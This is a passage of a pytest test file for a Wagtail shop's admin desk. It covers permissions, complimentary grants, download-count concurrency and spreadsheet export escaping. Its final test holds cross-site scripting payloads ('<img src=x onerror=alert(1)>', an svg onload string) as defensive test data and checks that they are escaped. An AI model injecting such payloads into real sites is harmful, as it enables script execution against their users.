    assert client.post(url("resend", purchase.pk)).status_code == 403
    assert (
        client.post(url("revoke", purchase.pk), {"how": "revoke", "reason": "x"}).status_code == 403
    )
    purchase.refresh_from_db()
    assert purchase.status == S.PAID and mail.outbox == []


# Permissions --------------------------------------------------------------------------------


def menu_has_shop(client) -> bool:
    return url("index") in client.get(reverse("wagtailadmin_home")).content.decode()


def every_url(purchase, link) -> list[tuple[str, str, dict]]:
    return [
        ("get", url("index"), {}),
        ("get", url("index") + "?export=csv", {}),
        ("get", url("index") + "?export=xlsx", {}),
        ("get", url("index_results"), {}),
        ("get", url("inspect", purchase.pk), {}),
        ("get", url("grant"), {}),
        ("post", url("grant"), {"product": purchase.product_id, "email": "x@example.com"}),
        *[
            (method, url(name, purchase.pk), data)
            for name, data in ACTION_POSTS.items()
            for method in ("get", "post")
        ],
        ("post", url("extend_link", purchase.pk, link.pk), {"lifetime_hours": 5}),
        ("post", url("reset_link", purchase.pk, link.pk), {}),
    ]


ACTION_POSTS = {
    "resend": {},
    "issue_link": {"lifetime_hours": 5},
    "correct_email": {"email": "x@example.com"},
    "revoke": {"how": "revoke", "reason": "no"},
    "restore": {},
}


def test_an_editor_without_desk_permissions_sees_no_shop_and_is_refused(client, paid, home):
    purchase, link = paid
    client.force_login(desk_user(username="writer"))
    assert not menu_has_shop(client)
    for method, path, data in every_url(purchase, link):
        assert_refused(client, path, method, data)
    purchase.refresh_from_db()
    assert purchase.status == S.PAID and mail.outbox == []
    assert DownloadLink.objects.count() == 1 and not ModelLogEntry.objects.exists()


def test_view_permission_lists_inspects_and_exports_but_acts_on_nothing(client, paid):
    purchase, link = paid
    client.force_login(desk_user("view_purchase"))
    assert menu_has_shop(client)
    assert client.get(url("index")).status_code == 200
    assert client.get(url("index"), {"export": "csv"}).status_code == 200
    response = client.get(url("inspect", purchase.pk))
    assert response.status_code == 200
    assert response.context["desk_actions"] == []
    assert "Extend" not in response.content.decode()
    for method, path, data in every_url(purchase, link)[5:]:
        assert_refused(client, path, method, data)
    assert not ModelLogEntry.objects.exists() and mail.outbox == []


def test_support_permission_helps_buyers_but_cannot_revoke(client, paid):
    purchase, link = paid
    client.force_login(desk_user("view_purchase", "support_purchase"))
    labels = [a["label"] for a in client.get(url("inspect", purchase.pk)).context["desk_actions"]]
    assert labels == ["Resend the delivery email", "Issue a new link", "Correct the email address"]
    assert client.post(url("resend", purchase.pk)).status_code == 302
    assert (
        client.post(url("extend_link", purchase.pk, link.pk), {"lifetime_hours": 2}).status_code
        == 302
    )
    assert_refused(client, url("revoke", purchase.pk), "post", {"how": "revoke", "reason": "x"})
    assert_refused(client, url("restore", purchase.pk), "post")
    purchase.refresh_from_db()
    assert purchase.status == S.PAID


def test_revoke_permission_revokes_and_restores_but_cannot_resend(client, paid):
    purchase, _link = paid
    client.force_login(desk_user("view_purchase", "revoke_purchase"))
    labels = [a["label"] for a in client.get(url("inspect", purchase.pk)).context["desk_actions"]]
    assert labels == ["Revoke access"]
    assert_refused(client, url("resend", purchase.pk), "post")
    response = client.post(url("revoke", purchase.pk), {"how": "suspend", "reason": "check"})
    assert response.status_code == 302
    assert client.post(url("restore", purchase.pk)).status_code == 302
    purchase.refresh_from_db()
    assert purchase.status == S.PAID and mail.outbox == []


def test_an_action_permission_without_view_is_refused(client, paid):
    purchase, _link = paid
    client.force_login(desk_user("support_purchase", "revoke_purchase"))
    assert not menu_has_shop(client)
    assert_refused(client, url("resend", purchase.pk), "post")
    assert_refused(client, url("revoke", purchase.pk), "post", {"how": "revoke", "reason": "x"})
    assert mail.outbox == []


def test_refused_editors_cannot_tell_whether_a_purchase_exists(client, paid):
    purchase, _link = paid
    client.force_login(desk_user(username="writer"))
    for path in (url("resend", purchase.pk), url("resend", purchase.pk + 1000)):
        assert_refused(client, path)


def test_groups_page_offers_the_desk_permissions(admin_client):
    html = admin_client.get(reverse("wagtailusers_groups:add")).content.decode()
    for label in (
        "Can help buyers",
        "Can revoke, suspend and restore access to purchases",
        "Can refund purchases through Stripe",
        "Can grant complimentary purchases",
    ):
        assert label in html, label
    codenames = set(
        Permission.objects.filter(content_type__model="purchase").values_list("codename", flat=True)
    )
    assert {"view_purchase", "support_purchase", "revoke_purchase"} <= codenames
    assert "add_purchase" not in codenames and "delete_purchase" not in codenames


def test_inspect_view_lists_downloads_per_file(admin_client, paid):
    purchase, link = paid
    first, second = purchase.product_page.product_files
    FileDownloadCount.objects.create(link=link, file_id=first.pk, count=2)
    DownloadEvent.objects.create(link=link, file_id=second.pk, outcome="used_up")
    response = admin_client.get(url("inspect", purchase.pk))
    html = response.content.decode()
    assert f"{first.title}: 2" in html and "(3 left)" in html
    assert "Download refused: download limit reached" in html


def test_what_wagtails_own_export_does_with_formula_cells():
    """Why the desk escapes: Wagtail (8.0) types an XLSX cell beginning with "=" as text but
    writes CSV cells as they are. If Wagtail starts escaping CSV, the desk's exact-value tests
    above catch the double apostrophe."""
    from openpyxl import Workbook
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    wagtail_export = SpreadsheetExportMixin()
    assert wagtail_export.preprocess_field_value("v", "=1+1", "csv") == "=1+1"
    sheet = Workbook(write_only=True).create_sheet()
    (equals,) = wagtail_export.generate_xlsx_row(sheet, {"v": "=1+1"})
    (plus,) = wagtail_export.generate_xlsx_row(sheet, {"v": "+1+1"})
    assert equals.data_type == "s" and plus.data_type == "s"
    assert not equals.quotePrefix and not plus.quotePrefix


# Grants -------------------------------------------------------------------------------------


def test_grant_a_complimentary_copy(
    admin_client, admin_user, home, django_capture_on_commit_callbacks
):
    product = ProductPageFactory(parent=home, title="Field Guide", live=False)  # before launch
    path = url("grant")
    listing = admin_client.get(url("index")).content.decode()
    assert path in listing and "Grant a complimentary copy" in listing
    response = admin_client.get(path)
    assert response.status_code == 200
    assert list(response.context["form"].fields["product"].queryset) == [product.page_ptr]

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            path, {"product": product.pk, "email": "press@example.com", "reason": "Review copy"}
        )
    purchase = Purchase.objects.get()
    assert response.status_code == 302 and response["Location"] == url("inspect", purchase.pk)
    assert (purchase.source, purchase.status, purchase.amount) == ("grant", S.PAID, 0)
    assert purchase.stripe_checkout_session_id is None and purchase.paid_at is not None
    # Delivered like any paid purchase: the delivery email with a link.
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["press@example.com"]
    assert purchase.links.get().reason == DownloadLink.Reason.WEBHOOK
    entry = logged(purchase, desk.GRANT)
    assert entry.user == admin_user and entry.data["reason"] == "Review copy"

    entries = timeline.build_timeline(purchase)
    assert (entries[0].kind, entries[0].actor, entries[0].detail) == (
        "editor",
        admin_user.get_username(),
        "Review copy",
    )
    assert not [e for e in entries if e.actor == "Stripe" or e.kind == "purchase"]
    html = admin_client.get(url("index")).content.decode()
    assert "Complimentary" in html


def test_grant_refuses_a_page_that_is_not_a_product(admin_client, home):
    response = admin_client.post(
        url("grant"), {"product": home.pk, "email": "press@example.com", "reason": "x"}
    )
    assert response.status_code == 200 and "product" in response.context["form"].errors
    assert not Purchase.objects.exists()


def test_grant_needs_its_own_permission(client, home):
    product = ProductPageFactory(parent=home)
    data = {"product": product.pk, "email": "press@example.com", "reason": "x"}
    client.force_login(desk_user("view_purchase", "support_purchase", "revoke_purchase"))
    assert "Grant a complimentary copy" not in client.get(url("index")).content.decode()
    assert_refused(client, url("grant"))
    assert_refused(client, url("grant"), "post", data)
    assert not Purchase.objects.exists()
    client.force_login(desk_user("view_purchase", "grant_purchase", username="press"))
    assert client.post(url("grant"), data).status_code == 302
    assert Purchase.objects.get().source == Purchase.Source.GRANT


# Concurrency (PostgreSQL) ---------------------------------------------------------------------


@needs_postgres
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_reset_while_buyers_download_neither_deadlocks_nor_loses_a_count(home, rf):
    """Reset takes the counters' row locks before the link's, the order a download takes them:
    the other order deadlocks (PostgreSQL aborts one side) when both run at once."""
    product = ProductPageFactory(parent=home, files=2)
    purchase = PurchaseFactory(paid=True, product=product)
    link = links.issue_link(purchase, reason=DownloadLink.Reason.WEBHOOK, download_limit=None).link
    files = product.product_files
    for file in files:
        FileDownloadCount.objects.create(link=link, file_id=file.pk, count=1)
    DownloadLink.objects.filter(pk=link.pk).update(download_count=2)

    def download(i: int) -> None:
        file = files[i % 2]
        handoff = links.Handoff(link.pk, file.pk, f"n{i}")
        links.reserve_download(rf.get("/"), link, file, handoff, promised=file.size, size=file.size)

    def reset() -> None:
        desk.reset_link_counts(link, user=None)

    for _round in range(3):
        run_at_once([functools.partial(download, i) for i in range(8)] + [reset, reset])
        link.refresh_from_db()
        counted = sum(FileDownloadCount.objects.filter(link=link).values_list("count", flat=True))
        assert link.download_count == counted


def test_buyer_and_editor_text_is_escaped_everywhere(admin_client, home):
    evil = "<img src=x onerror=alert(1)>"
    product = ProductPageFactory(parent=home, title=evil)
    purchase = PurchaseFactory(
        paid=True, product=product, email='"<svg/onload=alert(2)>"@example.com'
    )
    DownloadLinkFactory(purchase=purchase)
    payload = {"data": {"object": {"id": purchase.stripe_checkout_session_id}}}
    StripeEventFactory(purchase=purchase, status="failed", last_error=evil, payload=payload)
    response = admin_client.post(url("revoke", purchase.pk), {"how": "suspend", "reason": evil})
    assert response.status_code == 302
    pages = [
        url("index"),
        url("inspect", purchase.pk),
        url("restore", purchase.pk),
        url("correct_email", purchase.pk),
        reverse("wagtailadmin_reports:site_history"),
    ]
    for path in pages:
        html = admin_client.get(path).content.decode()
        assert "<img src=x" not in html and "<svg/onload" not in html, path
    assert "&lt;img src=x onerror=alert(1)&gt;" in admin_client.get(pages[1]).content.decode()
